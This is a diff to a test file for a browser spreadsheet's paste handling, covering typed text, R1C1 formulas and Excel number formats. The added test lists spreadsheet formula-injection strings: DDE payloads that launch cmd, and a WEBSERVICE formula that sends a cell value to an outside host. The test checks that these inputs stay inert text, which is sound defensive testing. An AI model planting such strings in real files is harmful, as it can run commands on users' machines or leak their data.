@@ -1,6 +1,6 @@
 /** Pasted text read as if typed, formulas in row-and-column notation, and Excel's number formats in style sheets. */
 import { excelFormat, readDeclarations, readRules } from "../../../src/browser-workbook/paste/style-text";
-import { cellNotation } from "../../../src/browser-workbook/paste/row-column-formula";
+import { fromR1C1 } from "../../../src/formula/references";
 import { readTyped } from "../../../src/browser-workbook/paste/typed-text";
 import { plainHabits, systemHabits } from "../../../src/browser-workbook/paste/writing-habits";
 
@@ -57,6 +57,20 @@ test("day and month follow the system's order where the format leaves it open", 
   expect(readTyped("05/11/2026", dayFirst).value).toBe(46331);
 });
 
+test.each([
+  '=IMAGE("http://x/a.png")',
+  ' =WEBSERVICE("http://x/"&A1)',
+  "=SUM(cmd|'/c calc'!A0)",
+  "+cmd|' /C calc'!A0",
+  "-cmd|' /C calc'!A0",
+  "@SUM(cmd|'/c calc'!A0)",
+  '=INDIRECT("[x.xlsx]S!A1")',
+  "=CONTOSO.GET(A1)",
+  "=[1]Plan!A1",
+])("%s reaches outside the workbook and stays text", (text) => {
+  expect(readTyped(text)).toEqual({ value: text });
+});
+
 test("what a program showed in place of a number is marked", () => {
   expect(readTyped("########", plainHabits, "m/d/yyyy").isCutOff).toBe(true);
   expect(readTyped("1.23457E+13", plainHabits, null).isCutOff).toBe(true);
@@ -75,7 +89,7 @@ test.each([
   ["=ROUND(R[0]C[-1],2)+RC1_rate", "=ROUND(B3,2)+RC1_rate"],
   ["=R[-3]C[0]", "=#REF!"],
 ])("%s in C3 is %s", (formula, expected) => {
-  expect(cellNotation(formula, 2, 2)).toBe(expected);
+  expect(fromR1C1(formula, { row: 2, col: 2 })).toBe(expected);
 });
 
 test("Excel's number formats are decoded from its style sheets", () => {
